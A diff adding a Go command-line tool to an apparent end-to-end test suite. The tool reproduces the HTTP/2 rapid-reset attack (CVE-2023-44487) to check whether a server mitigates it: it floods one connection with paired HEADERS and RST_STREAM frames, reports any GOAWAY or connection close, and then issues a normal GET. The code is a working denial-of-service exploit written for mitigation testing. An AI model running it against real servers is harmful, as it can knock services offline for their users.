@@ -1,0 +1,134 @@
+// Command sluice-h2rapid is the e2e suite's HTTP/2 rapid-reset client
+// (CVE-2023-44487): on one h2c (prior knowledge) connection it sends
+// HEADERS and RST_STREAM for up to --streams streams, within --duration,
+// and reports as one JSON line how many it sent, whether the server sent
+// GOAWAY (and its code) and closed the connection; then one normal GET on
+// a new connection, and its status.
+package main
+
+import (
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// Report is what the command prints.
+type Report struct {
+	Sent       int    `json:"sent"`         // streams sent (HEADERS + RST_STREAM)
+	GoAway     string `json:"goaway"`       // the GOAWAY's error code, "" when none came
+	Closed     bool   `json:"closed"`       // the server closed the connection
+	After      int    `json:"after_status"` // status of the normal GET on a new connection (0: failed)
+	AfterError string `json:"after_error,omitempty"`
+}
+
+func main() {
+	addr := flag.String("addr", "198.18.1.101:80", "h2c server address")
+	streams := flag.Int("streams", 5000, "streams to open and reset (upper bound)")
+	duration := flag.Duration("duration", 20*time.Second, "send for at most this long")
+	path := flag.String("path", "/", "request path")
+	flag.Parse()
+	rep, err := run(*addr, *path, *streams, *duration)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "h2rapid:", err)
+		os.Exit(1)
+	}
+	_ = json.NewEncoder(os.Stdout).Encode(rep)
+}
+
+func run(addr, path string, streams int, duration time.Duration) (Report, error) {
+	var rep Report
+	c, err := net.DialTimeout("tcp", addr, 3*time.Second)
+	if err != nil {
+		return rep, err
+	}
+	defer c.Close()
+	end := time.Now().Add(duration)
+	_ = c.SetDeadline(end.Add(5 * time.Second))
+	fr := http2.NewFramer(c, c)
+	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		return rep, err
+	}
+	if err := fr.WriteSettings(); err != nil {
+		return rep, err
+	}
+	var goAway atomic.Value // http2.ErrCode
+	readDone := make(chan struct{})
+	go func() {
+		defer close(readDone)
+		for {
+			f, err := fr.ReadFrame()
+			if err != nil {
+				return
+			}
+			// The server's SETTINGS are not acknowledged: one goroutine
+			// writes (a Framer is not safe for two), and x/net does not
+			// wait for the acknowledgement.
+			if f, ok := f.(*http2.GoAwayFrame); ok {
+				goAway.Store(f.ErrCode)
+			}
+		}
+	}()
+	enc := func(fields ...string) []byte {
+		var b bytesBuffer
+		e := hpack.NewEncoder(&b)
+		for i := 0; i+1 < len(fields); i += 2 {
+			_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
+		}
+		return b
+	}
+	// Without dynamic-table entries, the same block can be sent every time.
+	buf := enc(":method", "GET", ":scheme", "http", ":authority", addr, ":path", path)
+	for id := uint32(1); rep.Sent < streams && time.Now().Before(end); id += 2 {
+		if goAway.Load() != nil {
+			break
+		}
+		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: buf, EndStream: true, EndHeaders: true}); err != nil {
+			break
+		}
+		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+			break
+		}
+		rep.Sent++
+	}
+	select {
+	case <-readDone:
+		rep.Closed = true
+	case <-time.After(5 * time.Second):
+	}
+	if v := goAway.Load(); v != nil {
+		rep.GoAway = v.(http2.ErrCode).String()
+	}
+
+	// A well-behaved client afterwards.
+	tr := &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, a string, _ *tls.Config) (net.Conn, error) {
+		var d net.Dialer
+		return d.DialContext(ctx, network, a)
+	}}
+	defer tr.CloseIdleConnections()
+	cl := &http.Client{Transport: tr, Timeout: 5 * time.Second}
+	resp, err := cl.Get("http://" + addr + path)
+	if err != nil {
+		rep.AfterError = err.Error()
+		return rep, nil
+	}
+	_, _ = io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	rep.After = resp.StatusCode
+	return rep, nil
+}
+
+// bytesBuffer is the smallest io.Writer into a slice.
+type bytesBuffer []byte
+
+func (b *bytesBuffer) Write(p []byte) (int, error) { *b = append(*b, p...); return len(p), nil }
